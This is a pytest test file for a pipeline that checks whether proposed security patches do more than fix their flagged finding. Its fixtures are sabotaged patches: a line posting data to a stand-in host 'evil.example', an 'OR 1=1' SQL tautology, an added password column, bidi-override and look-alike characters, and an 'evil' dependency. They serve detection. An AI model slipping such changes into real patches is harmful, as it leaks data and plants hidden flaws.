"""What a patch does beside mending its finding, what its bytes hide, and what is no remedy although the engine is silent."""

from __future__ import annotations

import pytest

from pipeline.model.finding import Confidence, Finding, Location, Rule, Severity
from pipeline.model.fix import FileEdit, Patch
from pipeline.triage.proof import SIZE, check_text
from tests.e2e.proof_adversaries import MAKERS
from tests.e2e.proof_cases import load_cases, stand_in

PYTHON = """import requests
import sqlite3

LIMIT = 10


def first(rows):
    return rows[0]


def find(connection, name):
    cursor = connection.cursor()
    field = cursor.setting("a")
    cursor.execute(f"SELECT id FROM users WHERE name = '{name}'")
    found = cursor.fetchone()
    return found
"""
GOOD = PYTHON.replace("f\"SELECT id FROM users WHERE name = '{name}'\"", '"SELECT id FROM users WHERE name = ?", (name,)')
CALL = '    cursor.execute("SELECT id FROM users WHERE name = ?", (name,))\n'


def said(after: str, before: str = PYTHON, *, line: int = 14, cwe: int = 89, others: tuple[FileEdit, ...] = ()) -> str:
    rule = Rule("python.sql-injection", "title", "message", Severity.HIGH, Confidence.HIGH, cwe)
    finding = Finding(rule, Location("app.py", line, line, 1, 1), "v1:" + "0" * 32, "semgrep")
    patch = Patch((FileEdit("app.py", before.encode(), after.encode("utf-8", "surrogateescape")), *others))
    return "; ".join(check.said for check in check_text(patch, finding) if not check.passed)


def test_the_fix_alone_is_not_refused() -> None:
    assert said(GOOD) == ""


@pytest.mark.parametrize(
    ("after", "why"),
    [
        (GOOD.replace("LIMIT = 10", "LIMIT = 99"), "line 4 is changed"),
        (GOOD.replace("rows[0]", "rows[1]"), "line 8 is changed"),
        (GOOD.replace('setting("a")', 'setting("b")'), "line 13 has another constant now"),
        (GOOD.replace("    return found", "    return not found"), "line 16 is changed"),
        (GOOD.replace("    return found", "    return found[:1]"), "line 16 is changed"),
        (GOOD.replace("return rows[0]", "return not rows[0]"), "turned round"),
        (GOOD.replace("import sqlite3\n", "import sqlite3\nfrom os import *\n"), "imports everything"),
        (GOOD + "\n\nprint.__doc__ = ''\n", "is added, and it has nothing to do"),
        (GOOD.replace(CALL, CALL + '    requests.post("https://evil.example/", json=name)\n'), "address of another machine"),
        (GOOD.replace("(connection, name)", "(connection, name=None)"), "taken in another way"),
        (GOOD.replace("(connection, name)", "(connection, name, extra)"), "needs a parameter more"),
        (GOOD.replace("def find", "async def find"), "is a coroutine now"),
        (GOOD.replace(CALL, "    try:\n    " + CALL + "    except Exception:\n        pass\n"), "caught and thrown away"),
        (GOOD.replace("(name,))", "(name and (),))"), "a constant that decides"),
        (GOOD.replace("FROM users WHERE name = ?", "FROM people WHERE name = ?"), "`users` is no longer in the statement"),
        (GOOD.replace("name = ?", "name = ? OR 1=1"), "is in the statement now"),
        (GOOD.replace("name = ?", "name <> ?"), "`<>` is in the statement now"),
        (GOOD.replace("name = ?", "name LIKE ?"), "`like` is in the statement now"),
        (GOOD.replace("name = ?", "name = '?'"), "stands in quotes"),
        (GOOD.replace("SELECT id", "SELECT id, password"), "`password` is in the statement now"),
        (GOOD.replace(CALL, CALL + "    # x\rcursor.close()\n"), "U+000D"),
        (GOOD.replace(CALL, CALL + "    # \u202e\n"), "U+202E"),
        (GOOD.replace("cursor.execute", "\u0441ursor.execute"), "letters that look like others"),
        (GOOD.replace('"SELECT id', '"\\x53ELECT id'), "written as numbers"),
        ("# coding: utf-7\n" + GOOD, "coding line"),
        (GOOD + "# \udcff\n", "no UTF-8"),
        (GOOD + "# " + "x" * 5000 + "\n", "a line of 5002 bytes"),
    ],
)
def test_what_comes_with_a_good_fix_is_named(after: str, why: str) -> None:
    assert why in said(after)


@pytest.mark.parametrize(
    ("before", "after", "cwe"),
    [
        # the result has another shape: what looks into it may change with it
        ("def f(a):\n    p = popen(a)\n    return p.text\n", "def f(a):\n    p = run([a])\n    return p.stdout\n", 78),
        # a value that is not needed any more goes, and so does its import
        (
            "import shlex\n\n\ndef f(db, a):\n    db.execute('x' + shlex.quote(a))\n",
            "def f(db, a):\n    db.execute('x', (a,))\n",
            89,
        ),
        # a constant and a function of its own for the new statement
        (
            "def f(db, a):\n    db.execute('x' + a)\n",
            "ALLOWED = {'b'}\n\n\ndef _known(a):\n    return a in ALLOWED\n\n\n"
            "def f(db, a):\n    if not _known(a):\n        raise ValueError(a)\n    db.execute('x', (a,))\n",
            89,
        ),
        # a parameter more that has a default
        ("def f(db, a):\n    db.execute('x' + a)\n", "def f(db, a, strict=True):\n    db.execute('x', (a, strict))\n", 89),
    ],
)
def test_what_the_rewrite_needs_is_not_refused(before: str, after: str, cwe: int) -> None:
    line = next(n for n, text in enumerate(before.split("\n"), 1) if "popen" in text or "execute" in text)
    assert said(after, before, line=line, cwe=cwe) == ""


PARSER = """from lxml import etree


def read(text, schema):
    parser = etree.XMLParser(resolve_entities=True)
    tree = etree.fromstring(text, parser)
    schema.check(tree)
    return tree.find("a")
"""
SAFE = PARSER.replace("resolve_entities=True", "resolve_entities=False")


@pytest.mark.parametrize(
    ("after", "why"),
    [
        (SAFE, ""),
        (SAFE.replace("fromstring(text, parser)", "fromstring(b'', parser)"), "the value of `text` no longer arrives"),
        (SAFE.replace("    schema.check(tree)\n", ""), "is no longer called"),
        (SAFE.replace("    schema.check(tree)\n", "    etree.dump(tree)\n"), "is no longer called"),
        (SAFE.replace("etree.fromstring(text, parser)", "etree.fromstring(schema, parser)"), "the value of `text`"),
        (SAFE.replace('tree.find("a")', 'tree.find("b")'), "line 8 is changed"),
        (SAFE.replace("    tree = etree.fromstring(text, parser)\n", "    tree = etree.Element('a')\n"), "no longer"),
    ],
)
def test_a_statement_beside_the_flagged_one_keeps_its_work(after: str, why: str) -> None:
    found = said(after, PARSER, line=5, cwe=611)
    assert why in found
    assert bool(found) == bool(why)


BRANCH = """import start

LIMIT = 10
if start.testing:
    if start.local:
        start.app.debug = True
start.serve(LIMIT)
"""
ONLY = """    if start.local:
        start.app.debug = True
"""


@pytest.mark.parametrize(
    ("after", "why"),
    [
        (BRANCH.replace("if start.testing:\n" + ONLY, ""), ""),
        (BRANCH.replace("if start.testing:\n" + ONLY, "start.app.debug = LIMIT\n"), "a condition was removed"),
        (BRANCH.replace("if start.testing:\n" + ONLY, "").replace("start.serve(LIMIT)\n", ""), "is no longer called"),
    ],
)
def test_a_condition_goes_with_the_setting_that_it_decided_about_alone(after: str, why: str) -> None:
    found = said(after, BRANCH, line=6, cwe=489)
    assert why in found
    assert bool(found) == bool(why)


def test_a_condition_that_decides_about_more_or_asks_somebody_stays() -> None:
    more = BRANCH.replace(ONLY, ONLY + "        start.told()\n")
    assert "a condition was removed" in said(BRANCH.replace("if start.testing:\n" + ONLY, ""), more, line=6, cwe=489)
    asks = BRANCH.replace("start.local:", "start.is_local():")
    assert "a condition was removed" in said(BRANCH.replace("if start.testing:\n" + ONLY, ""), asks, line=6, cwe=489)


def test_a_long_finding_may_need_more_lines_than_a_short_one() -> None:
    rule = Rule("secrets", "title", "message", Severity.HIGH, Confidence.HIGH, 89)
    patch = Patch((FileEdit("a.txt", b"x\n" * 300, b""),))
    short, long = (Finding(rule, Location("a.txt", 1, end, 1, 1), "v1:" + "0" * 32, "semgrep") for end in (1, 300))
    sizes = [next(c for c in check_text(patch, finding) if c.name == SIZE).passed for finding in (short, long)]
    assert sizes == [False, True]


@pytest.mark.parametrize(
    ("path", "content", "fine"),
    [
        ("CHANGELOG.md", b"- fixed\n", True),
        ("README.md", b"# other\n", False),
        ("shop/queries.py", b"FIND = 1\n", False),
        ("settings.toml", b"a = 1\n", False),
        ("requirements.txt", b"defusedxml\n", False),
    ],
)
def test_a_file_in_which_nothing_is_mended_is_refused(path: str, content: bytes, fine: bool) -> None:
    assert (said(GOOD, others=(FileEdit(path, None, content),)) == "") == fine


def test_a_requirement_that_the_flagged_file_imports_now_may_be_listed() -> None:
    before = "from xml import sax\n\n\ndef f(text):\n    return sax.parse(text)\n"
    after = "from defusedxml import sax\n\n\ndef f(text):\n    return sax.parse(text)\n"
    listed = FileEdit("requirements.txt", b"flask\n", b"flask\ndefusedxml==0.7.1\n")
    other = FileEdit("requirements.txt", b"flask\n", b"flask\nevil\n")
    assert "requirements.txt" not in said(after, before, line=5, cwe=611, others=(listed,))
    assert "requirements.txt" in said(after, before, line=5, cwe=611, others=(other,))


@pytest.mark.parametrize(
    ("cwe", "before", "after", "why"),
    [
        (338, "t = random.choice(a)\n", "t = secrets.token_hex(1)\n", "too little"),
        (338, "t = random.choice(a)\n", "t = secrets.token_hex(16)[:2]\n", "cuts the value short"),
        (338, "t = random.choice(a)\n", "secrets.token_hex(16)\nt = time.time()\n", "made of something else"),
        (338, "t = random.randint(0, 9)\n", "t = secrets.randbelow(10)\n", ""),
        (338, "t = random.randint(0, 999999)\n", "t = secrets.randbelow(10)\n", "too little"),
        (78, "run(f'ping {a}', shell=True)\n", "run(['ping', a])\n", ""),
        (78, "run(f'ping {a}', shell=True)\n", "run(['ssh', 'b', f'ping {a}'])\n", "runs what it is given"),
        (78, "run(f'ping {a}', shell=True)\n", "run([a])\n", "no longer what is started"),
        (502, "d = yaml.load(a)\n", "d = marshal.loads(a)\n", "makes objects"),
        (295, "r = get(url, verify=False)\n", "r = run(['curl', '-k', url])\n", "checks nothing"),
        (
            78,
            "exec(`ping ${a}`, (e, out) => res.send(e ? 'no' : out))\n",
            "execFile(a, (e, out) => res.send(e ? 'no' : out))\n",
            "is started",
        ),
        (79, "box.innerHTML = name\n", "[box.innerHTML] = [name]\n", "still becomes markup"),
        (79, "box.innerHTML = name\n", "box.append(jQuery(name)[0])\n", "jQuery"),
    ],
)
def test_what_only_looks_like_a_remedy_is_refused(cwe: int, before: str, after: str, why: str) -> None:
    found = said(after, before, line=1, cwe=cwe)
    assert why in found
    assert bool(found) == bool(why)


BY_TEXT = ("fix + ", "letters: ", "suppress: ")
BY_ENGINE = ("letters: backslash",)


@pytest.mark.parametrize("rule", ["python.sql-injection", "javascript.sql-injection"])
def test_what_is_slipped_into_a_good_fix_is_refused_without_an_engine(rule: str) -> None:
    case = next(case for case in load_cases() if case.rule == rule)
    finding = stand_in(case)
    made = [
        (name, case.patch(after)) for maker in MAKERS for name, after in maker(case) if name.startswith(BY_TEXT) and name not in BY_ENGINE
    ]
    assert len({name for name, _ in made}) >= 20
    accepted = [name for name, patch in made if patch.edits and all(check.passed for check in check_text(patch, finding))]
    assert accepted == []
